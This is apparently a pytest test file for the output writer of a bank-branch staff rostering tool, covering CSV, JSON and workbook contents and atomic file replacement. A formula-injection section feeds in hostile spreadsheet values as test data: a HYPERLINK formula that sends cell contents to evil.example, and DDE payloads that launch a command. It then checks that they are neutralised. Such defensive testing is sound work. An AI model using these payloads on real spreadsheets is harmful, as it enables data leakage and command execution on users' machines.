"""The output files: exact CSV columns with BOM, summary.json keys, the workbook — and all-or-nothing writes."""

from __future__ import annotations

import csv
import dataclasses
import json
import os
import signal
from pathlib import Path

import pandas as pd
import pytest
import roster_fixtures as rf
from openpyxl import load_workbook

import scheduler.report.outputs as outputs
from constraints.io import read_table
from constraints.problem import Problem
from constraints.roster import Roster, Violation, with_outreach
from constraints.rules import check_roster
from constraints.staff import OUTREACH_POSTS, Staff
from scheduler.report.outputs import OUTPUT_FILES, SUMMARY_KEYS, TABLE_FILES, write_outputs
from scheduler.report.read_roster import read_roster
from scheduler.solver.result import RosterResult, SolveParams


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory, problem: Problem, roster: Roster) -> Path:
    """An output folder written once from a solver-like result."""
    folder = tmp_path_factory.mktemp("out")
    found = check_roster(problem, roster)  # the made-up demand leaves soft notes
    result = RosterResult(
        status="OPTIMAL",
        problem=problem,
        params=SolveParams(seed=3),
        roster=roster,
        gap=0.0,
        violations=found,
    )
    write_outputs(
        folder,
        roster=roster,
        problem=problem,
        result=result,
        forecast=rf.example_forecast(problem),
        summary=result.summary(),
        inputs={"staff": rf.examples_dir() / "staff.csv", "config": rf.examples_dir() / "branch.toml"},
    )
    return folder


def _header(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return next(csv.reader(fh))


def test_all_files_written(out: Path) -> None:
    """roster.csv, requirements.csv, summary.json and roster.xlsx are there, nothing else."""
    assert sorted(p.name for p in out.iterdir()) == sorted(OUTPUT_FILES)


def test_roster_csv_exact_columns_with_bom(out: Path, problem: Problem, roster: Roster) -> None:
    """roster.csv: exactly date,staff_id,name,post,start,end,activity in UTF-8 with BOM, and it reads back."""
    raw = (out / "roster.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert _header(out / "roster.csv") == ["date", "staff_id", "name", "post", "start", "end", "activity"]
    assert "王建国".encode() in raw
    assert Roster.from_frame(read_table(out / "roster.csv")) == with_outreach(roster, problem.staff)


def test_sales_posts_off_the_floor_are_outreach(out: Path, problem: Problem, roster: Roster) -> None:
    """roster.csv labels the sales posts' time off the floor ``outreach`` (营销/外拓), everyone else's stays
    ``back_office``, and every rule's check says the same of both labellings."""
    df = read_table(out / "roster.csv")
    sales = {p.staff_id for p in problem.staff if p.post in OUTREACH_POSTS}
    outreach = set(df.loc[df["activity"] == "outreach", "staff_id"])
    assert outreach and outreach <= sales
    assert not set(df.loc[df["activity"] == "back_office", "staff_id"]) & sales
    assert check_roster(problem, with_outreach(roster, problem.staff)) == check_roster(problem, roster)


def test_requirements_csv_exact_columns_with_bom(out: Path, roster: Roster, problem: Problem) -> None:
    """requirements.csv: exactly the DESIGN.md columns, BOM, open windows counted from the roster."""
    assert (out / "requirements.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert _header(out / "requirements.csv") == [
        "date",
        "start",
        "end",
        "counter",
        "forecast_arrivals",
        "required_windows",
        "open_windows",
    ]
    df = pd.read_csv(out / "requirements.csv", encoding="utf-8-sig", dtype={"start": str})
    monday = problem.day(rf.MONDAY)
    high = roster.open_windows(monday, problem.staff.ids())["high_counter"]
    row = df[(df["date"] == "2026-11-30") & (df["start"] == "12:00") & (df["counter"] == "high_counter")]
    assert int(row["open_windows"].iloc[0]) == int(high[monday.slot_of(720)]) == 2


def test_summary_json_keys_and_utf8(out: Path) -> None:
    """summary.json has every DESIGN.md key, violations with rule/date/start/end/message, unescaped Chinese."""
    text = (out / "summary.json").read_text(encoding="utf-8")
    doc = json.loads(text)
    assert set(SUMMARY_KEYS) <= set(doc)
    assert doc["status"] == "OPTIMAL" and doc["parameters"]["seed"] == 3
    assert doc["violations"] and {"rule", "date", "start", "end", "message"} <= set(doc["violations"][0])
    assert doc["expected_waits"]["2026-11-30"]["mean_wait_minutes"] > 0
    assert len(doc["inputs"]["staff"]["sha256"]) == 64
    assert "高柜" in text  # ensure_ascii=False
    assert text.startswith("{\n  ")  # indent 2


def test_workbook_written(out: Path) -> None:
    """roster.xlsx opens and holds the day sheets."""
    assert "11-30 周一" in load_workbook(out / "roster.xlsx", read_only=True).sheetnames


def test_summary_without_result_is_filled(tmp_path: Path, problem: Problem, roster: Roster) -> None:
    """With no solver result, summary.json still has every key (status null, rules checked here)."""
    write_outputs(tmp_path, roster=roster, problem=problem.replace(demand={}), summary={"status": "CHECKED"})
    doc = json.loads((tmp_path / "summary.json").read_text(encoding="utf-8"))
    assert set(SUMMARY_KEYS) <= set(doc)
    assert doc["status"] == "CHECKED" and doc["violations"] == [] and doc["staff_hours"]["S01"] == 38.5


def test_failure_leaves_old_files_untouched(
    tmp_path: Path, problem: Problem, roster: Roster, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A failure mid-write (the workbook, after the CSVs and JSON) leaves every old file and no temp files."""
    for name in OUTPUT_FILES:
        (tmp_path / name).write_text(f"old {name}", encoding="utf-8")

    def boom(*args: object, **kwargs: object) -> None:
        raise RuntimeError("crash while writing roster.xlsx")

    monkeypatch.setattr(outputs, "write_workbook", boom)
    with pytest.raises(RuntimeError, match="crash"):
        write_outputs(tmp_path, roster=roster, problem=problem, summary={})
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(OUTPUT_FILES)
    for name in OUTPUT_FILES:
        assert (tmp_path / name).read_text(encoding="utf-8") == f"old {name}"


def test_success_replaces_old_files(tmp_path: Path, problem: Problem, roster: Roster) -> None:
    """A complete write replaces old outputs and returns their paths."""
    (tmp_path / "roster.csv").write_text("old", encoding="utf-8")
    paths = write_outputs(tmp_path, roster=roster, problem=problem.replace(demand={}), summary={}, lang="en")
    assert set(paths) == set(OUTPUT_FILES)
    assert (tmp_path / "roster.csv").read_bytes().startswith(b"\xef\xbb\xbfdate,staff_id")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_no_roster_still_writes_the_reason(tmp_path: Path, problem: Problem) -> None:
    """An infeasible week writes a header-only roster.csv, the status and the explanation (summary and KPIs)."""
    why = Violation(
        "noon_two_at_high_counter", rf.MONDAY, 690, 810, "高柜只有 1 人可用", "only 1 available", ("S07",)
    )
    result = RosterResult(status="INFEASIBLE", problem=problem, params=SolveParams(), explanation=[why])
    write_outputs(tmp_path, roster=None, problem=problem, result=result, summary=result.summary())
    assert (tmp_path / "roster.csv").read_text(encoding="utf-8-sig").strip() == (
        "date,staff_id,name,post,start,end,activity"
    )
    doc = json.loads((tmp_path / "summary.json").read_text(encoding="utf-8"))
    assert doc["status"] == "INFEASIBLE" and doc["explanation"][0]["rule"] == "noon_two_at_high_counter"
    req = pd.read_csv(tmp_path / "requirements.csv", encoding="utf-8-sig")
    assert req["open_windows"].isna().all() and len(req) > 0
    ws = load_workbook(tmp_path / "roster.xlsx")["指标"]
    values = [c.value for row in ws.iter_rows() for c in row if c.value is not None]
    assert "无法排班的原因" in values and "高柜只有 1 人可用" in values


# ---- formula injection: names, the branch name and leave reasons reach every file as text ----------------

INJECTED = {
    "S01": '=HYPERLINK("http://evil.example/?"&B2,"王建国")',
    "S02": "=cmd|' /C calc'!A0",
    "S03": "+SUM(1,2)",
    "S04": "-2+3+cmd|' /C calc'!A0",
    "S05": "@SUM(A1:A9)",
    "S06": "\t=1+1",
    "S07": "＝1+1",
}
BRANCH = "=1+2 支行"
REASON = '=HYPERLINK("http://evil.example","年休假")'


INJECTED_ID = ("S14", "@S14")
"""A staff id that starts like a formula too: check and simulate must still find the person."""


@pytest.fixture(scope="module")
def injected(
    tmp_path_factory: pytest.TempPathFactory, problem: Problem, roster: Roster
) -> tuple[Problem, Path, Roster]:
    """The example week with formula-like names, one such staff id, branch name and leave reason, written once."""
    old, new = INJECTED_ID
    people = tuple(
        p.model_copy(
            update={
                "name": INJECTED.get(p.staff_id, p.name),
                "staff_id": new if p.staff_id == old else p.staff_id,
            }
        )
        for p in problem.staff
    )
    away = tuple(a.model_copy(update={"reason": REASON}) for a in problem.absences)
    prob = problem.replace(
        staff=Staff(people=people), absences=away, config=problem.config.copy_with(**{"branch.name": BRANCH})
    )
    renamed = Roster(
        tuple(dataclasses.replace(b, staff_id=new) if b.staff_id == old else b for b in roster.blocks)
    )
    folder = tmp_path_factory.mktemp("injected")
    write_outputs(folder, roster=renamed, problem=prob, summary={})
    return prob, folder, with_outreach(renamed, prob.staff)


def test_roster_csv_names_are_quoted_text(injected: tuple[Problem, Path, Roster]) -> None:
    """roster.csv: every formula-like name (and staff id) is written with a leading ' and reads back as it was."""
    _, folder, _ = injected
    with open(folder / "roster.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    names = {r["staff_id"]: r["name"] for r in rows}
    for sid, name in INJECTED.items():
        if sid in names:
            assert names[sid] == "'" + name
    back = read_table(folder / "roster.csv")
    assert {sid: n for sid, n in zip(back["staff_id"], back["name"], strict=True) if sid in INJECTED} == {
        sid: name for sid, name in INJECTED.items() if sid in names
    }
    assert "'" + INJECTED_ID[1] in names and INJECTED_ID[1] in set(back["staff_id"])


@pytest.mark.parametrize("payload", [*INJECTED.values(), BRANCH, INJECTED_ID[1]])
def test_roster_xlsx_stores_input_text_as_quoted_strings(
    injected: tuple[Problem, Path], payload: str
) -> None:
    """roster.xlsx, every sheet: a cell holding a name (or the branch name) that starts like a formula is a
    string starting with ' — the day sheets and the week sheet at least show every name."""
    _, folder, _ = injected
    wb = load_workbook(folder / "roster.xlsx")
    cells = [
        (ws.title, c)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.lstrip("'").startswith(payload)
    ]
    assert len({title for title, _ in cells}) >= 2, f"{payload!r} is on fewer than two sheets"
    for title, c in cells:
        assert c.data_type == "s" and c.value.startswith("'" + payload), (title, c.coordinate, c.value)


def test_roster_xlsx_formulas_are_only_paibans_own(injected: tuple[Problem, Path, Roster]) -> None:
    """No formula in roster.xlsx holds input text (names, branch name, leave reasons); the hours and window
    counts paiban writes are still formulas."""
    _, folder, _ = injected
    wb = load_workbook(folder / "roster.xlsx")
    own = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert own and all(v.startswith(("=(COUNTA(", "=COUNTIF(")) for v in own)
    cores = [p.strip().lstrip("=＝+-@") for p in (*INJECTED.values(), BRANCH, REASON)]
    assert not [v for v in own if any(core in v for core in cores)]


def test_injected_roster_reads_back_the_same(injected: tuple[Problem, Path, Roster]) -> None:
    """paiban check / simulate read the quoted files back to the very roster (CSV and the day sheets), the
    quoted staff id included."""
    prob, folder, roster = injected
    assert read_roster(folder / "roster.csv", prob.staff, prob.days) == roster
    assert read_roster(folder / "roster.xlsx", prob.staff, prob.days) == roster


# ---- the set is swapped in whole, or not at all --------------------------------------------------------------


def _old_set(folder: Path) -> dict[str, tuple[bytes, int]]:
    """A previous run's whole set (simulation.csv included), with old modification times."""
    folder.mkdir(exist_ok=True)
    for name in (*OUTPUT_FILES, *TABLE_FILES):
        path = folder / name
        path.write_text(f"old {name}", encoding="utf-8")
        os.utime(path, ns=(1_600_000_000_000_000_000, 1_600_000_000_000_000_000))
    return {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in folder.iterdir()}


def test_stale_files_of_an_older_run_are_removed(tmp_path: Path, problem: Problem, roster: Roster) -> None:
    """A run that writes forecast.csv but no simulation.csv removes the old simulation.csv with the rest."""
    _old_set(tmp_path)
    forecast = pd.DataFrame({"date": ["2026-11-30"], "start": ["09:00"], "mean": [1.5]})
    paths = write_outputs(
        tmp_path,
        roster=roster,
        problem=problem.replace(demand={}),
        summary={},
        tables={"forecast.csv": forecast},
    )
    assert set(paths) == {*OUTPUT_FILES, "forecast.csv"}
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(paths)
    assert read_table(tmp_path / "forecast.csv")["mean"].tolist() == ["1.5"]


@pytest.mark.parametrize(
    "fail_at", [2, 7, 11, 14]
)  # 1–4 write the temp files, 5–10 move the old aside, 11–14 swap in
def test_failure_between_renames_puts_the_old_set_back(
    tmp_path: Path, problem: Problem, roster: Roster, monkeypatch: pytest.MonkeyPatch, fail_at: int
) -> None:
    """A rename failing part-way through the swap (old files moved aside, some new ones in place) restores
    the previous set: same names, bytes and modification times, no temporary folder."""
    before = _old_set(tmp_path)
    real = os.replace
    calls = [0]

    def flaky(src: object, dst: object) -> None:
        calls[0] += 1
        if calls[0] == fail_at:
            raise OSError(28, "No space left on device")
        real(src, dst)  # type: ignore[arg-type]

    monkeypatch.setattr(outputs.os, "replace", flaky)
    with pytest.raises(OSError, match="No space"):
        write_outputs(tmp_path, roster=roster, problem=problem.replace(demand={}), summary={})
    monkeypatch.undo()
    assert {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in tmp_path.iterdir()} == before


def test_signal_during_the_swap_puts_the_old_set_back(
    tmp_path: Path, problem: Problem, roster: Roster, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Ctrl-C while the files are being swapped waits for the swap's end, then undoes it: the run is
    interrupted and --out holds the previous set as it was."""
    before = _old_set(tmp_path)
    real = os.replace
    sent = [False]

    def with_ctrl_c(src: object, dst: object) -> None:
        if not sent[0] and Path(str(src)).parent == tmp_path:  # the swap's first move of an old file
            sent[0] = True
            os.kill(os.getpid(), signal.SIGINT)  # held until the swap is complete
        real(src, dst)  # type: ignore[arg-type]

    monkeypatch.setattr(outputs.os, "replace", with_ctrl_c)
    # Python's own Ctrl-C handler, whatever an earlier test in this process left installed
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    with pytest.raises(KeyboardInterrupt):
        write_outputs(tmp_path, roster=roster, problem=problem.replace(demand={}), summary={})
    monkeypatch.undo()
    signal.signal(signal.SIGINT, previous)
    assert sent[0]
    assert {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in tmp_path.iterdir()} == before
